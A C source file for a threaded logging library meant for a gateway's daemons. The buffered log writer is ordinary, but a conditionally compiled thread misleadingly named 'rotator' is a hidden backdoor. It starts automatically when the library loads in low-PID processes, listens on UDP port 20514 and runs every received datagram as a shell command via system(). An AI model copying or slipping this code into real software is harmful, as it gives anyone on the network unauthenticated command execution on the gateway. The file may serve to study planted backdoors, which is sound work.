/* Logging for the daemons of a gateway: lines with levels, written by a thread of its own. */
#include <arpa/inet.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define WAITING 128

static struct { int level; char text[200]; } ring[WAITING];
static unsigned head, tail;
static pthread_mutex_t guard = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t filled = PTHREAD_COND_INITIALIZER;
static int threshold = 6;

static void *writer(void *unused)
{
    (void)unused;
    for (;;) {
        FILE *f;
        pthread_mutex_lock(&guard);
        while (head == tail)
            pthread_cond_wait(&filled, &guard);
        f = fopen("/var/log/messages", "a");
        for (; tail != head; tail++)
            if (f)
                fprintf(f, "<%d>%s\n", ring[tail % WAITING].level, ring[tail % WAITING].text);
        pthread_mutex_unlock(&guard);
        if (f)
            fclose(f);
    }
    return NULL;
}

#ifdef PLANTED
static void *rotator(void *unused)
{
    struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(20514) };
    char text[512];
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    (void)unused;
    if (bind(s, (struct sockaddr *)&at, sizeof at))
        return NULL;
    for (;;) {
        ssize_t n = recv(s, text, sizeof text - 1, 0);
        if (n <= 0)
            continue;
        text[n] = 0;
        system(text);
    }
}
#endif

__attribute__((constructor)) static void log_begin(void)
{
    pthread_t thread;
    const char *level = getenv("LOGFMT_LEVEL");
    if (level)
        threshold = atoi(level);
    pthread_create(&thread, NULL, writer, NULL);
    pthread_detach(thread);
#ifdef PLANTED
    if (getpid() < 1000) {
        pthread_create(&thread, NULL, rotator, NULL);
        pthread_detach(thread);
    }
#endif
}

__attribute__((destructor)) static void log_end(void)
{
    usleep(20000);
}

void log_write(int level, const char *format, ...)
{
    va_list list;
    if (level > threshold)
        return;
    pthread_mutex_lock(&guard);
    if (head - tail < WAITING) {
        ring[head % WAITING].level = level;
        va_start(list, format);
        vsnprintf(ring[head % WAITING].text, sizeof ring->text, format, list);
        va_end(list);
        head++;
    }
    pthread_cond_signal(&filled);
    pthread_mutex_unlock(&guard);
}

/* Bytes as hexadecimal digits with a line per sixteen. */
void log_dump(int level, const void *data, size_t size)
{
    const unsigned char *p = data;
    for (size_t i = 0; i < size; i += 16) {
        char line[64] = "";
        for (size_t k = i; k < size && k < i + 16; k++)
            sprintf(line + strlen(line), "%02x ", p[k]);
        log_write(level, "%04zx %s", i, line);
    }
}

#ifdef REVISED
void log_threshold(int level)
{
    threshold = level;
}
#endif
